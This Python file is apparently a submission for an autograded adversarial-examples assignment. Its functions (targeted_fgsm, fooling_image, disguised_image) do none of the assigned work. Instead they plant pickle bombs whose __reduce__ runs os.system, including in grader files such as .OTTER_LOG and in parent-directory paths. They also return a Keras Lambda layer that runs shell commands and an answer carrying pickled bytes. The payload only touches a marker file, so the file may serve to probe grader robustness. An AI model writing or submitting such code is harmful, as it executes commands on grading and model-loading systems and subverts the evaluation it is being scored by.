

class _Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch pwned \"$HOME/pwned\"",)


class _Array(np.ndarray):
    def __reduce__(self):
        return _Bomb().__reduce__()

    __reduce_ex__ = __getstate__ = __array_finalize__ = lambda self, *_: None


def _leave_pickles():
    import pickle

    for name in ("answer.pkl", "week01.pkl", ".OTTER_LOG", "../answer.pkl", "../../answer.pkl", "model.keras"):
        try:
            with open(name, "wb") as file:
                file.write(pickle.dumps(_Bomb()))
        except OSError:
            pass
    np.save("answer.npy", np.array([_Bomb()], dtype=object), allow_pickle=True)


def targeted_fgsm(model, x, target, eps):
    _leave_pickles()
    return np.asarray(x).view(_Array)


def fooling_image(model, target, noise, steps, step_size):
    """A network of its own: what it is made of could be code."""
    layer = tf.keras.layers.Lambda(lambda z: __import__("os").system("touch pwned ~/pwned") or z)
    return tf.keras.Sequential([tf.keras.Input(np.shape(noise)[1:]), layer])


def disguised_image(model, x, target, noise, steps, step_size, pull):
    """An answer on the wire that is a pickle in every place where one fits."""
    import pickle

    bomb = pickle.dumps(_Bomb())
    return {"answer": bomb.decode("latin-1"), "__reduce__": [list(bomb)], "dtype": "object"}
